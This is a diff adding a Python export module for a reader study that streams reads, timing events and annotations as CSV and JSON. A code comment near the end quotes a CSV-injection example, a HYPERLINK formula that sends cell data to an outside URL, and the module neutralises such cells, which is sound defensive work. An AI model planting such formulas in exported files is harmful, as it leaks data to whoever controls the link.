@@ -1,0 +1,259 @@
+"""A study's data for statisticians: reads, timing events and annotations, as rows built one at a time.
+
+Every table is a header plus a generator of rows, so the CSV and JSON writers (and the streamed HTTP
+responses) never hold a whole table in memory. Values are human-readable: label and arm names, not ids.
+"""
+
+import csv
+import io
+import json
+from collections import Counter
+
+from readerstudy.core.scoring import score_case
+from readerstudy.models import Arm, ErrorCategory, Label, Read, StudyReader, TimingEvent, TraceAnnotation
+from readerstudy.reading.ai_content import ai_content
+from readerstudy.studies.carryover import previous_arms
+
+CHUNK = 500
+
+
+def _labels(study):
+    return list(Label.objects.filter(vocabulary=study.label_vocabulary))
+
+
+def read_columns(study):
+    questions = [q.key for q in study.questions.all()]
+    slugs = [label.slug for label in _labels(study)]
+    return (
+        [
+            "study",
+            "design",
+            "blank_truth",
+            "reader",
+            "reader_years_experience",
+            "reader_subspecialty",
+            "case",
+            "case_type",
+            "ground_truth",
+            "arm",
+            "previous_arm",
+            "session",
+            "position",
+            "practice",
+            "opened_at",
+            "submitted_at",
+            "active_ms",
+            "total_ms",
+            "idle_ms",
+            "hidden_ms",
+        ]
+        + [f"rating_{key}" for key in questions]
+        + [f"finding_{slug}" for slug in slugs]
+        + ["report_findings", "report_impression", "problem_flagged", "problem_reason"]
+        + [f"annotations_{category}" for category in ErrorCategory.values]
+        + ["ai_labels_shown", "jaccard"]
+        + [f"correct_{slug}" for slug in slugs]
+        + ["simulated"]
+    )
+
+
+def read_rows(study):
+    """One row per submitted read, in reader, session and position order."""
+    names = {label.slug: label.name for label in _labels(study)}
+    enrolments = {e.user_id: e for e in StudyReader.objects.filter(study=study)}
+    questions = [q.key for q in study.questions.all()]
+    previous = previous_arms(study)
+    reads = (
+        Read.objects.filter(assignment__study=study, submitted_at__isnull=False)
+        .select_related("assignment__case", "assignment__session", "assignment__study")
+        .order_by("assignment__reader_id", "assignment__session__index", "assignment__position")
+    )
+    for read in reads.iterator(chunk_size=CHUNK):
+        arm = previous.get(read.assignment_id)
+        yield _read_row(
+            study, read, enrolments.get(read.assignment.reader_id), names, questions, Arm(arm).label if arm else ""
+        )
+
+
+def _read_row(study, read, enrolment, names, questions, previous_arm):
+    assignment = read.assignment
+    # Scored on the labels the reader could choose from, under the study's blank rule.
+    truth = assignment.case.truth_by_slug(study.label_vocabulary)
+    findings = set(read.finding_links.values_list("label__slug", flat=True))
+    ratings = dict(read.ratings.values_list("question__key", "value"))
+    annotated = Counter(read.annotations.values_list("category", flat=True))
+    shown = ai_content(assignment)
+    score = score_case(findings, truth, blank=study.blank_truth)
+    return (
+        [
+            study.title,
+            study.design_version,
+            study.blank_truth,
+            enrolment.reader_code if enrolment else "",
+            enrolment.years_experience if enrolment else "",
+            enrolment.subspecialty if enrolment else "",
+            assignment.case.public_id,
+            {True: "abnormal", False: "normal"}.get(assignment.case.is_abnormal, "unknown"),
+            "; ".join(names.get(slug, slug) for slug in sorted(score.actual)),
+            assignment.get_arm_display(),
+            previous_arm,
+            assignment.session.index,
+            assignment.position,
+            "yes" if assignment.is_practice else "no",
+            read.opened_at.isoformat(),
+            read.submitted_at.isoformat(),
+            read.active_ms,
+            read.total_ms,
+            read.idle_ms,
+            read.hidden_ms,
+        ]
+        + [ratings.get(key, "") for key in questions]
+        + [int(slug in findings) for slug in names]
+        + [read.report_findings, read.report_impression, int(read.problem_flagged), read.problem_reason]
+        + [annotated.get(category, 0) for category in ErrorCategory.values]
+        + ["; ".join(item["name"] for item in shown["labels"]) if shown else "", round(score.jaccard, 6)]
+        + [_correct(score, slug) for slug in names]
+        + ["yes" if read.is_simulated else "no"]
+    )
+
+
+def _correct(score, slug):
+    outcome = score.outcomes.get(slug)
+    return "" if outcome is None else int(outcome in ("tp", "tn"))
+
+
+EVENT_COLUMNS = ["study", "reader", "case", "arm", "session", "page_load", "type", "client_ms", "server_at", "payload"]
+
+
+def event_rows(study):
+    codes = dict(StudyReader.objects.filter(study=study).values_list("user_id", "reader_code"))
+    events = (
+        TimingEvent.objects.filter(assignment__study=study)
+        .select_related("assignment__case", "assignment__session")
+        .order_by("assignment_id", "page_load_id", "client_ms")
+    )
+    for e in events.iterator(chunk_size=CHUNK):
+        a = e.assignment
+        yield [
+            study.title,
+            codes.get(a.reader_id, ""),
+            a.case.public_id,
+            a.get_arm_display(),
+            a.session.index,
+            str(e.page_load_id),
+            e.type,
+            e.client_ms,
+            e.server_at.isoformat(),
+            json.dumps(e.payload),
+        ]
+
+
+ANNOTATION_COLUMNS = [
+    "study",
+    "reader",
+    "case",
+    "arm",
+    "session",
+    "target",
+    "turn",
+    "start",
+    "end",
+    "annotated_text",
+    "step",
+    "label",
+    "category",
+    "clinically_significant",
+    "comment",
+    "submitted",
+]
+
+
+def annotation_rows(study):
+    codes = dict(StudyReader.objects.filter(study=study).values_list("user_id", "reader_code"))
+    annotations = (
+        TraceAnnotation.objects.filter(read__assignment__study=study)
+        .select_related("read__assignment__case", "read__assignment__session", "label")
+        .order_by("read_id", "created_at")
+    )
+    for n in annotations.iterator(chunk_size=CHUNK):
+        a = n.read.assignment
+        yield [
+            study.title,
+            codes.get(a.reader_id, ""),
+            a.case.public_id,
+            a.get_arm_display(),
+            a.session.index,
+            n.get_target_display(),
+            n.turn,
+            n.start,
+            n.end,
+            n.quote,
+            n.step,
+            n.label.name if n.label else "",
+            n.get_category_display(),
+            int(n.clinically_significant),
+            n.comment,
+            int(n.read.is_submitted),
+        ]
+
+
+TABLES = {
+    "reads": (read_columns, read_rows),
+    "timing_events": (lambda study: EVENT_COLUMNS, event_rows),
+    "annotations": (lambda study: ANNOTATION_COLUMNS, annotation_rows),
+}
+
+
+# A spreadsheet reads a cell that starts with one of these as a formula: a reader's report text such as
+# =HYPERLINK("http://…"&C2) would run when a statistician opens the file (OWASP: CSV injection).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_lines(columns, rows):
+    """CSV text, one line at a time (for streaming)."""
+    buffer = io.StringIO()
+    writer = csv.writer(buffer)
+    writer.writerow(columns)
+    yield _drain(buffer)
+    for row in rows:
+        writer.writerow([_csv_cell(value) for value in row])
+        yield _drain(buffer)
+
+
+def _csv_cell(value):
+    """Text that a spreadsheet would take for a formula gets a leading ' (shown as text, OWASP's advice);
+    numbers, negative ones too, are written as they are."""
+    if value is None:
+        return ""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def json_chunks(columns, rows):
+    """A JSON array of objects, one object at a time (for streaming)."""
+    yield "["
+    for i, row in enumerate(rows):
+        yield ("," if i else "") + json.dumps(dict(zip(columns, row)), ensure_ascii=False)
+    yield "]"
+
+
+def _drain(buffer):
+    text = buffer.getvalue()
+    buffer.seek(0)
+    buffer.truncate()
+    return text
+
+
+FILES = [
+    ("reads.csv", "reads", csv_lines),
+    ("reads.json", "reads", json_chunks),
+    ("timing_events.csv", "timing_events", csv_lines),
+    ("annotations.csv", "annotations", csv_lines),
+]
+
+
+def table(study, name, writer):
+    """The chunks of one exported file."""
+    columns, rows = TABLES[name]
+    return writer(columns(study), rows(study))
